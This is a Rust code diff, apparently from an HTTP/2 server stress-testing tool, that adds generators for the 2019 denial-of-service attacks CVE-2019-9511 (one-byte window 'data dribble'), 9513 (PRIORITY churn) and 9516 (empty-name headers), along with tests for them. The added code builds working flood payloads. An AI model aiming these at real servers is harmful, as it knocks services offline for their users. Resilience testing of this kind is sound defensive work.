@@ -31,6 +31,11 @@
 //!   flood of reconnections, not a server that lets the frames through;
 //!   a "closed" count under the SETTINGS flood also counts writes that
 //!   timed out because the server stopped reading.
+//! - **The rest of the 2019 set** (CVE-2019-9511 data dribble: 100
+//!   streams granted a byte of window at a time, so the server answers
+//!   in one-byte DATA frames; 9513 PRIORITY churn; 9514 resets the server
+//!   must make, never read; 9516 headers with empty names and values):
+//!   judged as the floods above.
 //! - **Both floods the other way**: WINDOW_UPDATEs whose connection is
 //!   read, PINGs whose answers never are (the server's answers fill the
 //!   socket; a connection that stops reading must not stop the others).
@@ -140,6 +145,18 @@ pub(super) enum Frames {
     /// resets does not see (CVE-2025-8671, "MadeYouReset"). (An increment
     /// of 0 is a connection error in h2: a GOAWAY.)
     MadeYouReset,
+    /// CVE-2019-9511 ("data dribble"): on a connection whose streams get
+    /// no window (SETTINGS_INITIAL_WINDOW_SIZE 0), 100 GETs of 16 MiB,
+    /// then WINDOW_UPDATEs of 1 byte on each stream (and 100 on the
+    /// connection) without end: the server's answer is one-byte DATA
+    /// frames.
+    DataDribble,
+    /// CVE-2019-9513 ("resource loop"): PRIORITY frames, each stream made
+    /// to depend on the one before, exclusively, on ever new stream ids.
+    PriorityChurn,
+    /// CVE-2019-9516 ("0-length headers leak"): on each new stream a
+    /// HEADERS block of headers with empty names and values.
+    EmptyHeaders,
     /// Not HTTP/2: small HTTP/1.1 GETs pipelined (the connection opened
     /// without the preface, with ALPN http/1.1 over TLS).
     Http1,
@@ -191,6 +208,42 @@ impl Frames {
                 while out.len() < BATCH {
                     out.extend(get(*stream, "/bytes/16384"));
                     out.extend(frame(8, 0, *stream, &0x7fff_ffffu32.to_be_bytes()));
+                    *stream += 2;
+                }
+            }
+            Frames::DataDribble => {
+                const STREAMS: u32 = 100;
+                if *stream == 1 {
+                    // SETTINGS_INITIAL_WINDOW_SIZE = 0, then the GETs.
+                    out.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
+                    for i in 0..STREAMS {
+                        out.extend(get(1 + 2 * i, "/bytes/16777216"));
+                    }
+                    *stream = 1 + 2 * STREAMS;
+                }
+                while out.len() < BATCH {
+                    out.extend(frame(8, 0, 0, &STREAMS.to_be_bytes()));
+                    for i in 0..STREAMS {
+                        out.extend(frame(8, 0, 1 + 2 * i, &1u32.to_be_bytes()));
+                    }
+                }
+            }
+            Frames::PriorityChurn => {
+                while out.len() < BATCH {
+                    // Exclusive (the top bit) on the stream before, weight 16.
+                    let dep = (stream.saturating_sub(2) | 1 << 31).to_be_bytes();
+                    out.extend(frame(2, 0, *stream, &[&dep[..], &[15]].concat()));
+                    *stream += 2;
+                }
+            }
+            Frames::EmptyHeaders => {
+                while out.len() < BATCH {
+                    // `:method GET`, `:scheme http`, `:path /`, then
+                    // literals without indexing: a new name of length 0
+                    // and a value of length 0, 1 000 times.
+                    let mut block = vec![0x82, 0x86, 0x84];
+                    block.extend([0u8, 0, 0].repeat(1000));
+                    out.extend(frame(1, 0x5, *stream, &block));
                     *stream += 2;
                 }
             }
@@ -470,6 +523,25 @@ mod tests {
             let id = 1 + 2 * i as u32;
             assert_eq!(pair, [(1, 5, id), (8, 0, id)]);
         }
+        let mut stream = 1;
+        let first = walk(&Frames::DataDribble.next(&mut stream));
+        assert_eq!(first[0], (4, 0, 0), "SETTINGS first");
+        assert!(first[1..101].iter().all(|&(t, fl, _)| (t, fl) == (1, 5)));
+        assert!(first[101..].iter().all(|&(t, _, _)| t == 8));
+        let more = walk(&Frames::DataDribble.next(&mut stream));
+        assert!(more.iter().all(|&(t, _, s)| t == 8 && s < 200));
+        let mut stream = 1;
+        let f = walk(&Frames::PriorityChurn.next(&mut stream));
+        assert!(f
+            .iter()
+            .enumerate()
+            .all(|(i, &x)| x == (2, 0, 1 + 2 * i as u32)));
+        let mut stream = 1;
+        let f = walk(&Frames::EmptyHeaders.next(&mut stream));
+        assert!(f
+            .iter()
+            .enumerate()
+            .all(|(i, &x)| x == (1, 5, 1 + 2 * i as u32)));
         let mut stream = 1;
         let bomb = Frames::HpackBomb.next(&mut stream);
         assert_eq!(walk(&bomb), [(1, 5, 1)]);
